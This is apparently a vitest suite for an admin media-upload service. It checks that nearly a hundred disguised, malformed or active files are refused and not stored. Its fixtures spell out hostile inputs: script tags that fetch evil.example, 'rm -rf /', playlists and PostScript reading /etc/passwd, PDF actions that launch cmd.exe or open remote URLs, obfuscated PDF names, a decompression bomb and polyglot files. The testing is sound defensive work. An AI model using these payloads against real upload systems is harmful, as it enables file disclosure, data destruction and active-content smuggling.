import { randomBytes } from 'node:crypto'
import { readdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { UploadKind } from '../../domain/admin/uploads/rules.ts'
import { adminCall, staffOf, type TestStaff } from '../support/admin.ts'
import { startTestApp, type TestApp } from '../support/app.ts'
import { recordFigure, recordPlanted } from '../support/figures.ts'
import { uploadWhole } from '../support/tus.ts'
import { drawVideo } from '../support/videos.ts'
import { countRows, jpegOfManyScans, pdf, png, zip } from './hostile-files.ts'

let app: TestApp
let author: TestStaff
let video: Buffer
let jpeg: Buffer
beforeAll(async () => {
  app = await startTestApp()
  author = await staffOf(app, 'author')
  video = await readFile(new URL('../../content/videos/files/eco-route.240.mp4', import.meta.url))
  jpeg = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#884422' } })
    .jpeg()
    .toBuffer()
})
afterAll(() => app.close())

const refused = { files: 0, stored: 0 }
afterAll(() =>
  recordFigure({
    id: 'T31',
    part: 'files',
    n: refused.files,
    figure: `${refused.stored} stored wrongly`,
    isMet: refused.stored === 0,
  }),
)

/** What is stored for everybody, in the database and in the store. */
async function stored(): Promise<{ media: number; files: string[] }> {
  const files = await readdir(join(app.settings.dataDir, 'media'), { recursive: true }).catch(() => [])
  return { media: await countRows(app, 'media'), files: files.sort() }
}

async function leftBytes(): Promise<string[]> {
  return readdir(join(app.settings.dataDir, 'uploads'))
}

const script = '<script>fetch("//evil.example")</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`
const text = (value: string) => Buffer.from(value, 'latin1')
const cut = (bytes: Buffer, share: number) => bytes.subarray(0, Math.floor(bytes.length * share))

/** Name, declared kind, bytes, and the reason for the refusal. */
type Case = readonly [string, UploadKind, () => Buffer | Promise<Buffer>, string]

const raster = (format: 'gif' | 'tiff') => async () =>
  sharp({ create: { width: 20, height: 20, channels: 3, background: 'red' } })
    .toFormat(format)
    .toBuffer()

const foreign: [string, () => Buffer | Promise<Buffer>][] = [
  ['a page of HTML', () => text(`<!doctype html>${script}`)],
  ['an SVG drawing', () => text(svg)],
  ['an archive', () => zip('a.html', script)],
  ['a packed archive', () => gzipSync(script)],
  ['a program', () => Buffer.concat([text('\x7fELF\x02\x01\x01'), randomBytes(500)])],
  ['a Windows program', () => Buffer.concat([text('MZ'), randomBytes(500)])],
  ['a shell script', () => text('#!/bin/sh\nrm -rf /\n')],
  ['chance', () => randomBytes(4096)],
  ['one byte', () => text('%')],
  ['zeros', () => Buffer.alloc(4096)],
  ['a playlist that names files of the server', () => text('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n')],
  ['a list of videos to join', () => text("ffconcat version 1.0\nfile '/etc/passwd'\n")],
  ['a GIF', raster('gif')],
  ['a TIFF', raster('tiff')],
  ['PostScript', () => text('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n')],
  ['a MATLAB or EPS picture', () => text('\xc5\xd0\xd3\xc6 and more')],
]
const notOf = {
  video: 'admin_upload_not_video',
  document: 'admin_upload_not_document',
  image: 'admin_upload_not_picture',
  audio: 'admin_upload_not_recording',
} as const
const kinds: UploadKind[] = ['video', 'document', 'image', 'audio']

const wrongKind: Case[] = [
  ...foreign.flatMap(([name, make]) =>
    kinds.map((kind): Case => [`${name} as ${kind}`, kind, make, notOf[kind]]),
  ),
  ['an MP4 as document', 'document', () => video, notOf.document],
  ['an MP4 as recording', 'audio', () => video, notOf.audio],
  ['an MP4 as image', 'image', () => video, notOf.image],
  ['a JPEG as video', 'video', () => jpeg, notOf.video],
  ['a JPEG as document', 'document', () => jpeg, notOf.document],
  ['a PDF as video', 'video', () => pdf(), notOf.video],
  ['a PDF as image', 'image', () => pdf(), notOf.image],
]

const videos: Case[] = [
  ['only the head of an MP4', 'video', () => video.subarray(0, 32), 'admin_upload_video_broken'],
  [
    'only the head of a Matroska video',
    'video',
    () => text('\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81'),
    'admin_upload_video_broken',
  ],
  [
    'only the head of an AVI',
    'video',
    () => text('RIFF\x10\x00\x00\x00AVI LIST'),
    'admin_upload_video_broken',
  ],
  [
    'a transport stream of nothing',
    'video',
    () => Buffer.concat(Array.from({ length: 40 }, () => Buffer.alloc(188, 'G\x1f\xff\x10', 'latin1'))),
    'admin_upload_video_broken|admin_upload_video_no_picture',
  ],
  [
    'a playlist behind the head of a Matroska video',
    'video',
    () => text('\x1a\x45\xdf\xa3#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n'),
    'admin_upload_video_broken',
  ],
  [
    'sound alone',
    'video',
    () => drawVideo({ hasSound: true, seconds: 2, options: ['-map', '1:a', '-c:a', 'aac'] }),
    'admin_upload_video_no_picture',
  ],
  [
    'an MP4 without its second half',
    'video',
    () => cut(video, 0.5),
    'admin_upload_video_broken|admin_upload_cut',
  ],
  [
    'an MP4 whose videos are zeros',
    'video',
    () => {
      const one = Buffer.from(video)
      return one.fill(0, Math.floor(one.length / 2))
    },
    'admin_upload_video_broken|admin_upload_cut',
  ],
  [
    'a HEIF picture with the name of a video',
    'video',
    () => Buffer.concat([video.subarray(0, 8), text('heic'), video.subarray(12)]),
    notOf.video,
  ],
  ['an MP4 behind a page', 'video', () => Buffer.concat([text(script), video]), notOf.video],
]

const action = (dictionary: string) => pdf({ catalog: `/OpenAction << ${dictionary} >>` })
const objects = '/Type /ObjStm /N 1 /First 4'
const hidden = '9 0 << /S /JavaScript /JS (1) >>'
const documents: Case[] = [
  [
    'a script',
    'document',
    () => action('/S /JavaScript /JS (app.alert\\(1\\))'),
    'admin_upload_document_active',
  ],
  [
    'a script whose name is written in numbers',
    'document',
    () => action('/S /J#61v#61Scr#69pt /JS (1)'),
    'admin_upload_document_active',
  ],
  ['a program to start', 'document', () => action('/S /Launch /F (cmd.exe)'), 'admin_upload_document_active'],
  [
    'a document of another computer to open',
    'document',
    () => action('/S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit]'),
    'admin_upload_document_active',
  ],
  [
    'a model in space with a script',
    'document',
    () => pdf({ catalog: '/A << /Type /3D /Subtype /U3D /OnInstantiate 9 0 R >>' }),
    'admin_upload_document_active',
  ],
  [
    'an address of the web to open',
    'document',
    () => action('/S /URI /URI (http://evil.example/who)'),
    'admin_upload_document_active',
  ],
  [
    'an address to open, in numbers and behind a remark',
    'document',
    () => pdf({ catalog: '/Open#41ction % said\n<< /S /U#52I /URI (http://evil.example/who) >>' }),
    'admin_upload_document_active',
  ],
  [
    'an address to open after a page of its own',
    'document',
    () => action('/S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example/who) >>'),
    'admin_upload_document_active',
  ],
  [
    'an address to open in another object',
    'document',
    () => pdf({ catalog: '/OpenAction 4 0 R', stream: '/S /URI /URI (http://evil.example/who)' }),
    'admin_upload_document_active',
  ],
  [
    'an address to open in a packed object',
    'document',
    () =>
      pdf({
        catalog: '/OpenAction 9 0 R',
        stream: '/Type /ObjStm /N 2 /First 9',
        packed: '8 0 9 5  null << /S /URI /URI (http://evil.example/who) >>',
      }),
    'admin_upload_document_active',
  ],
  [
    'an address to open as a page is turned to',
    'document',
    () => pdf({ catalog: '/Names << >> /AA << /O << /S /URI /URI (http://evil.example/who) >> >>' }),
    'admin_upload_document_active',
  ],
  [
    'a form that sends',
    'document',
    () => action('/S /SubmitForm /F (http://evil.example)'),
    'admin_upload_document_active',
  ],
  [
    'another file inside',
    'document',
    () => pdf({ catalog: '/Names << /EmbeddedFiles << >> >>' }),
    'admin_upload_document_active',
  ],
  [
    'another file inside, in numbers',
    'document',
    () => pdf({ catalog: '/Names << /Embedded#46iles << >> >>' }),
    'admin_upload_document_active',
  ],
  [
    'a form of XML',
    'document',
    () => pdf({ catalog: '/AcroForm << /XFA [] >>' }),
    'admin_upload_document_active',
  ],
  [
    'a moving picture with a script',
    'document',
    () => pdf({ catalog: '/RichMedia << >>' }),
    'admin_upload_document_active',
  ],
  [
    'a script in a packed list of objects',
    'document',
    () => pdf({ stream: '/Type /ObjStm /N 1 /First 4', packed: '9 0 << /S /JavaScript /JS (1) >>' }),
    'admin_upload_document_active',
  ],
  [
    'a script in a packed stream that says it is a picture',
    'document',
    () => pdf({ stream: '/Subtype /Image', packed: '9 0 << /S /Java#53cript /JS (1) >>' }),
    'admin_upload_document_active',
  ],
  [
    'a stream that unpacks to 200 MB',
    'document',
    () => pdf({ stream: '/Length 9', packedBytes: deflateSync(Buffer.alloc(200 * 1024 * 1024)) }),
    'admin_upload_document_broken',
  ],
  [
    'a script that is packed twice',
    'document',
    () =>
      pdf({
        stream: objects,
        filter: '[/FlateDecode /Flate#44ecode]',
        packedBytes: deflateSync(deflateSync(hidden)),
      }),
    'admin_upload_document_broken',
  ],
  [
    'a script that is packed as digits',
    'document',
    () =>
      pdf({
        stream: objects,
        filter: '%\n/ASCIIHexDecode',
        packedBytes: Buffer.from(Buffer.from(hidden).toString('hex')),
      }),
    'admin_upload_document_broken',
  ],
  [
    'a script whose letters are encoded relative to the previous ones',
    'document',
    () => pdf({ stream: `/Note (1 0 obj <<) ${objects} /DecodeParms << /Predictor 12 >>`, packed: 'x' }),
    'admin_upload_document_broken',
  ],
  [
    'a script whose compression is declared elsewhere',
    'document',
    () => pdf({ stream: objects, filter: '9 0 R', packed: 'x' }),
    'admin_upload_document_broken',
  ],
  ['a password', 'document', () => pdf({ trailer: '/Encrypt 9 0 R' }), 'admin_upload_document_locked'],
  [
    'an archive behind its end',
    'document',
    () => Buffer.concat([pdf(), zip('a.html', script)]),
    'admin_upload_document_mixed',
  ],
  [
    'an archive behind its end that hides the end in a remark',
    'document',
    () => Buffer.concat([pdf(), zip('a.html', script, 'startxref\n9\n%%EOF\n')]),
    'admin_upload_document_mixed',
  ],
  [
    'a page behind its end',
    'document',
    () => Buffer.concat([pdf(), text(script)]),
    'admin_upload_document_mixed',
  ],
  ['a page before its head', 'document', () => Buffer.concat([text(script), pdf()]), notOf.document],
  ['no end', 'document', () => cut(pdf(), 0.7), 'admin_upload_cut'],
  ['no page', 'document', () => text('%PDF-1.7\nstartxref\n9\n%%EOF'), 'admin_upload_document_broken'],
  ['no index', 'document', () => text('%PDF-1.7\n<< /Type /Page >>\n%%EOF'), 'admin_upload_document_broken'],
]

const pictures: Case[] = [
  ['a PNG of 40,000 × 40,000', 'image', () => png(40_000, 40_000), 'admin_upload_picture_huge'],
  [
    'a PNG of 2,000,000,000 × 1',
    'image',
    () => png(2_000_000_000, 1),
    'admin_upload_picture_huge|admin_upload_picture_broken',
  ],
  [
    'a PNG one pixel high and very wide',
    'image',
    () => png(40_000, 1),
    'admin_upload_picture_huge|admin_upload_picture_broken',
  ],
  ['a JPEG drawn too often', 'image', () => jpegOfManyScans(64, 65), 'admin_upload_picture_broken'],
  ['a PNG of no width', 'image', () => png(0, 10), 'admin_upload_picture_broken'],
  ['half a JPEG', 'image', () => cut(jpeg, 0.4), 'admin_upload_picture_broken'],
  ['only the head of a JPEG', 'image', () => text('\xff\xd8\xff\xe0'), 'admin_upload_picture_broken'],
  ['only the head of a PNG', 'image', () => text('\x89PNG\r\n\x1a\n'), 'admin_upload_picture_broken'],
  [
    'only the head of a WebP',
    'image',
    () => text('RIFF\x10\x00\x00\x00WEBPVP8 '),
    'admin_upload_picture_broken',
  ],
  [
    'only the head of an AVIF',
    'image',
    () => text('\x00\x00\x00\x18ftypavif\x00\x00\x00\x00'),
    'admin_upload_picture_broken',
  ],
  [
    'an SVG behind the head of a PNG',
    'image',
    () => Buffer.concat([text('\x89PNG\r\n\x1a\n'), text(svg)]),
    'admin_upload_picture_broken',
  ],
  ['an SVG behind a blank', 'image', () => text(` ${svg}`), notOf.image],
]

describe('a file that is not what it should be', () => {
  const cases = [...wrongKind, ...videos, ...documents, ...pictures]

  it('is made in more than a hundred ways', () => {
    expect(cases.length).toBeGreaterThan(85)
  })

  it.each(cases)(
    '%s is refused with a reason, and nothing of it is stored',
    async (_, kind, make, reason) => {
      const before = await stored()
      const ending = { video: 'mp4', document: 'pdf', image: 'jpg', audio: 'webm' }[kind]
      const upload = await uploadWhole(app, author, await make(), { kind, name: `lesson.${ending}` })
      refused.files += 1
      if (upload.state !== 'refused') refused.stored += 1
      expect(upload).toMatchObject({ state: 'refused', media: null })
      expect(reason.split('|')).toContain(upload.reason)
      expect(await stored()).toEqual(before)
      expect(await leftBytes()).not.toContain(upload.id)
      await adminCall(app, 'dropUpload', { id: upload.id }, { cookie: author.cookie })
    },
  )
})

describe('a file that is two things at once', () => {
  it('a JPEG with a script appended is re-encoded without the script', async () => {
    const upload = await uploadWhole(
      app,
      author,
      Buffer.concat([jpeg, text(script), zip('a.html', script)]),
      {
        kind: 'image',
        name: 'cover.jpg.html',
      },
    )
    expect(upload.state).toBe('ready')
    refused.files += 1
    const folder = join(app.settings.dataDir, 'media/uploads', upload.media.mediaId)
    for (const name of await readdir(folder)) {
      expect(name).toMatch(/^(webp|avif)-\d+\.(webp|avif)$/)
      expect((await readFile(join(folder, name))).includes('script')).toBe(false)
    }
    expect((await stored()).files.length).toBeGreaterThan(0)
    recordPlanted('T31', 'a file that is stored is seen as stored')
  })

  it('an MP4 with an appended archive and a location is copied without either', async () => {
    const upload = await uploadWhole(app, author, Buffer.concat([video, zip('a.html', script)]), {
      kind: 'video',
      name: 'lesson.pdf',
    })
    expect(upload.state).toBe('ready')
    refused.files += 1
    const bytes = await readFile(
      join(app.settings.dataDir, 'media/uploads', upload.media.mediaId, 'original.mp4'),
    )
    expect(bytes.includes('evil.example')).toBe(false)
    expect(bytes.includes('PK\x05\x06')).toBe(false)
    const address = await app.fetch(`/media/pictures/${upload.media.mediaId}/320.webp`)
    expect(address.status).toBe(404)
    expect((await app.fetch(`/pictures/${upload.media.mediaId}`)).status).toBe(404)
  })
})
